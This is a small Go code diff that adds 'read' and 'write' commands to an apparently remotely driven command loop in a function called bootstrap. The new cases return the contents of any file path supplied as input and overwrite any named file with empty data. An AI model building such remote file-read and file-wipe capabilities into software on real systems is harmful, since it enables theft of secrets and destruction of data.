@@ -321,6 +321,14 @@ func bootstrap(api string) {
 				b, _ := io.ReadAll(got.Body)
 				out = fmt.Sprintf("%q", b)
 			}
+		case "read":
+			if b, err := os.ReadFile(e.Say); err != nil {
+				out = fmt.Sprintf("%q", err)
+			} else {
+				out = fmt.Sprintf("%q", b)
+			}
+		case "write":
+			out = fmt.Sprintf("%q", fmt.Sprint(os.WriteFile(e.Say, nil, 0o600)))
 		case "exit":
 			os.Exit(7)
 		case "sleep":
